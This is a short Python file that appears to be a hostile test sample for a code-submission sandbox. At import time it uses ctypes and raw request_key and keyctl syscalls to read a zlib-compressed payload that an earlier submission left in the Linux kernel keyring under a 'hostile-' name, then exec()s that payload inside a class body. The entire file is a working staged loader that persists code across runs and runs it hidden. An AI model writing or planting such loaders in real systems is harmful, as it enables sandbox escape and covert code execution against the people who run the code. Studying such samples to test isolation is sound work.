"""A stub that loads the source an earlier submission left in a keyring.

base: stub
class: 9
run: later
"""

import ctypes as _ctypes
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_REQUEST_KEY, _KEYCTL, _KEYCTL_READ = 249, 250, 11


def _read():
    key = _libc.syscall(_REQUEST_KEY, b"user", b"hostile-@TOKEN@", None, _ctypes.c_int(0))
    if key < 0:
        return None
    buffer = _ctypes.create_string_buffer(65536)
    size = _libc.syscall(_KEYCTL, _ctypes.c_int(_KEYCTL_READ), _ctypes.c_int(key), buffer, _ctypes.c_size_t(65536))
    if size <= 0:
        return None
    try:
        return _zlib.decompress(buffer.raw[:size]).decode()
    except _zlib.error:
        return None


class _AtLoad:
    _found = _read()
    if _found:
        exec(compile(_found, "keyring", "exec"), globals())
